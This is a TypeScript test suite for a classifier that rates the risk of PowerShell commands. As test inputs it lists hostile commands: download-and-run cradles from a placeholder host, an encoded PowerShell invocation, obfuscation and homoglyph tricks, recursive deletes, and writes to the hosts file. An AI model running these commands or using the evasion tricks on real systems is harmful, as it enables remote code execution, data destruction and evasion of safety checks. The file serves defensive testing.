import assert from 'node:assert/strict';
import test from 'node:test';
import type { Risk } from '../../../runtime/model/risk.js';
import { classifyShell } from '../../../runtime/risk/index.js';
import { judgeLanguage } from '../../../runtime/risk/languages/index.js';

const context = { shell: 'powershell', placeholders: true, parsers: { languages: judgeLanguage } };

function check(risk: Risk, texts: readonly string[]): void {
  for (const text of texts) {
    const found = classifyShell(text, context);
    assert.equal(found.risk, risk, `${text}: ${JSON.stringify(found.reasons, null, 1)}`);
  }
}

test('pipelines that only read are safe', () => {
  check('safe', [
    'Get-Process | Sort-Object CPU -Descending | Select-Object -First 10 | Format-Table Name, CPU -AutoSize',
    "Get-EventLog -LogName System -Newest 50 | Where-Object {$_.EntryType -eq 'Error'}",
    'Get-Service | ? Status -eq Stopped | select Name',
    "Get-WinEvent -FilterHashtable @{LogName='System'; Level=2; StartTime=(Get-Date).AddHours(-24)} |\n  Group-Object ProviderName -NoElement",
    "Get-CimInstance Win32_OperatingSystem | Select-Object @{n='Free';e={[math]::Round($_.FreePhysicalMemory/1MB,2)}}",
    "Get-Content a.txt | Where-Object { $_ -match 'Remove-Item' }",
    'Get-Process `\n  -Name w3wp `\n  | Format-List *',
    'Get-Content <file>',
    'Get-Content {{ file }}',
    'GET-PROCESS',
    'Get-Process -Name "a", "b" -ErrorAction SilentlyContinue',
    '$PSVersionTable',
    '',
    '# only a comment',
  ]);
});

test('statements are judged by what stands in them', () => {
  check('safe', [
    'if (Test-Path C:\\x) { Get-Content C:\\x\\a.txt } elseif ($a) { pwd } else { Write-Host "none" }',
    'foreach ($s in "a", "b") { Test-Connection $s -Count 1 }',
    'for ($i = 0; $i -lt 3; $i++) { Get-Date }',
    'while ($true) { Get-Date; Start-Sleep -Seconds 5 }',
    'do { Get-Date } until ($x)',
    'switch -Regex ($x) { "a" { Get-Date } default { pwd } }',
    'try { Get-Item C:\\x -ErrorAction Stop } catch [System.IO.IOException] { $_ } finally { pwd }',
    'function Get-Foo { param([Parameter(Mandatory=$true)][string]$Name = "a") Get-Process $Name }; Get-Foo',
    'class A { [string]$Name = "x"; [void] Run([int]$a) { Get-Date } }',
    '$x = if ($a) { 1 } else { 2 }',
  ]);
  check('dangerous', [
    'if ($x) { Get-Date } else { Remove-Item C:\\x -Recurse }',
    'foreach ($f in Get-ChildItem C:\\x) { Remove-Item $f.FullName }',
    'do { Get-Date } while (Remove-Item C:\\x -Recurse)',
    'switch ($x) { default { Stop-Computer } }',
    'try { Get-Date } finally { Stop-Computer }',
    'trap { Stop-Computer }',
    'function Get-Foo { Remove-Item C:\\x -Recurse }; Get-Foo',
    'function Get-Foo($a = (Stop-Computer)) { }',
    'class A { [void] Run() { Stop-Computer } }',
    'param([ValidateScript({ Stop-Computer })]$a)',
    '@{ a = Stop-Computer }',
    '$x[(Stop-Computer)]',
    'begin { Stop-Computer }',
    ':outer foreach ($a in 1) { Stop-Computer }',
    'Get-Date && Stop-Computer',
    'return (Stop-Computer)',
  ]);
});

test('what is computed inside a text or an argument is judged', () => {
  check('safe', [
    'Write-Host "Remove-Item C:\\x -Recurse"',
    "Write-Host '$(Stop-Computer)'",
    '"$($x.Name) and `$(Stop-Computer)"',
  ]);
  check('dangerous', [
    'Write-Host "$(Stop-Computer)"',
    'Write-Host “$(Stop-Computer)”',
    '"a $("b $(Stop-Computer)")"',
    '@"\n$(Stop-Computer)\n"@',
    'Get-Item (Stop-Computer)',
    'Get-Item -Path:(Stop-Computer)',
    'Get-Item @(Stop-Computer)',
    'Get-Process > "$(Stop-Computer)"',
  ]);
});

test('a name that is hidden or made up is not trusted', () => {
  check('dangerous', [
    '& $command',
    "& ('Re' + 'move-Item') x",
    '. $script',
    'Remov`e-Item C:\\x -Rec',
    'Gеt-Process',
    'Remove-Item –Recurse C:\\x',
    "iex (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')",
    'iwr https://x.example/a.ps1 | iex',
    'iex "Get-Process $x"',
    '[scriptblock]::Create($text)',
    "[scriptblock]::Create('Stop-Computer')",
    '$x.$method()',
    '[Diagnostics.Process]::Start($p)',
    '$function:ls = { Get-Date }',
    'Set-Alias ls Remove-Item',
    'powershell -enc SQBFAFgA',
    '<# a `#> Stop-Computer #> Get-Process',
    'if ($false) { function Remove-Item { } }; Remove-Item C:\\x -Recurse',
    'Remove-Item C:\\x -Recurse; function Remove-Item { }',
    'Invoke-Command $code',
    'iwr https://x.example/a.ps1 -OutFile .\\a.ps1; .\\a.ps1',
    'frob --%a; Stop-Computer',
    'Get-Date --% a | Stop-Computer',
    'Remove-Item C:\\x\u0085-Recurse',
    'Get-Date > function:ls',
    '$x.("Kill")()',
    '("io.file" -as [type])::Delete("a")',
    'PS C:\\> Remove-Item C:\\x -Recurse',
    '([wmiclass]"Win32_Process").Create("calc")',
    '$ExecutionContext.InvokeCommand.InvokeScript("Get-Date")',
    'Get-Command Remove-Item | % { & $_ x }',
  ]);
});

test('a dry run is one only where PowerShell takes it for one', () => {
  check('safe', [
    'Remove-Item C:\\x -Recurse -WhatIf',
    'Stop-Computer -Wh',
    'Remove-Item C:\\x -Recurse -WhatIf:$true',
  ]);
  check('dangerous', [
    'Remove-Item C:\\x -Recurse -WhatIf:$false',
    'Remove-Item C:\\x -Recurse -WhatIf:$x',
    'Remove-Item C:\\x -Recurse "-WhatIf"',
    'Remove-Item C:\\x -Recurse -What"If"',
    'Remove-Item C:\\x -Recurse -- -WhatIf',
    'Remove-Item (Stop-Computer) -WhatIf',
    'kubectl delete ns prod -WhatIf',
  ]);
  assert.equal(classifyShell('Stop-Computer -WhatIf', context).dryRun, true);
});

test('parameters may be shortened, and what comes from a variable is not known', () => {
  check('dangerous', ['Stop-Process -Id 5 -Fo', 'Remove-Item C:\\x -Rec', 'rm -r C:\\x', 'rm -rf C:\\x']);
  check('unknown', [
    'Get-Service @params',
    'Get-Foo -Repair',
    'get-foo',
    '.\\run.ps1',
    'Get-Process | frob',
    '[Foo.Bar]::Baz()',
  ]);
  check('caution', ['Get-Foo -OutFile a', 'Get-Foo -Out a']);
  check('safe', ['Get-Foo -Bar x', 'Get-Foo -Recurse:$false']);
});

test('programs are judged as they are elsewhere, with the words that PowerShell gives them', () => {
  check('safe', [
    'kubectl get pods -n kube-system',
    'kubectl get pods -o jsonpath={.items[0].metadata.name}',
    'kubectl get pods -o jsonpath="{.items[*].metadata.name}"',
    'az vm list --query "[].name" -o table',
    'ls -la',
    'curl -s https://x.example/',
    'Start-Process ping 10.0.0.1',
  ]);
  check('dangerous', [
    'kubectl delete ns prod',
    'foreach ($p in 1) { kubectl delete ns $p }',
    'kubectl get pods (Stop-Computer)',
    'powershell { Stop-Computer }',
    'powershell -Command "Stop-Computer"',
    'Start-Process powershell -ArgumentList \'-Command "Stop-Computer"\'',
    'Start-Process $program',
    'Get-Content a | powershell -',
  ]);
});

test('methods of .NET are judged by type and name', () => {
  check('safe', [
    '[math]::Round(3.5)',
    '[DateTime]::Now.AddDays(-1).ToString("yyyy")',
    '[System.IO.File]::ReadAllText("a")',
    '[System.IO.Path]::Combine("a", "b")',
    '$list = New-Object System.Collections.ArrayList; $list.Add("x"); $list.Clear()',
    '(Get-Item C:\\x).LastWriteTime',
    '$x = { Get-Process }; & $x',
    '@(1, 2).ForEach({ $_ })',
  ]);
  check('caution', [
    '[System.IO.File]::WriteAllText("a", "b")',
    '(Get-Item a).LastWriteTime = Get-Date',
    '$x.Save("a")',
  ]);
  check('dangerous', [
    '[System.IO.File]::Delete("a")',
    '(Get-Process w3wp).Kill()',
    'Get-WmiObject Win32_Process | % { $_.Terminate() }',
    "(Get-Process).ForEach('Kill')",
    'Get-Process | % Kill',
    '$x = { Stop-Computer }; & $x',
  ]);
});

test('what is set and written is judged by where it goes', () => {
  check('safe', [
    '$x = 1',
    '$env:FOO = "x"',
    '$x.Name = "a"',
    '$x[0] = 1',
    'Get-Process > $null',
    'Get-Process 2>&1',
    '[void](Get-Process)',
  ]);
  check('caution', [
    '$env:PATH += ";C:\\x"',
    'Get-Process > a.txt',
    '${C:\\a.txt} = "x"',
    'PS C:\\x> Get-Process',
    "$PSDefaultParameterValues['Get-Foo:OutFile'] = 'a'",
  ]);
  check('dangerous', ['Get-Process > C:\\Windows\\System32\\drivers\\etc\\hosts', '$env:LD_PRELOAD = "a"']);
});

test('text that cannot be read is unknown, and dangerous where a destructive verb is seen', () => {
  check('unknown', ['Get-Process "', 'if (', '$x = ', '@{ a', "'abc"]);
  check('dangerous', ['Remove-Item "', 'Get-Process } Stop-Computer', '@" Stop-Computer']);
});

test('text of a query is judged in its own language', () => {
  check('dangerous', [
    'Invoke-Sqlcmd -Query "DROP TABLE a"',
    '$q = "DROP TABLE a"; Invoke-Sqlcmd -Query $q',
    'Invoke-Expression -Command "Stop-Computer"',
  ]);
  check('unknown', ['Invoke-Sqlcmd -Query (Get-Content a.sql)']);
});
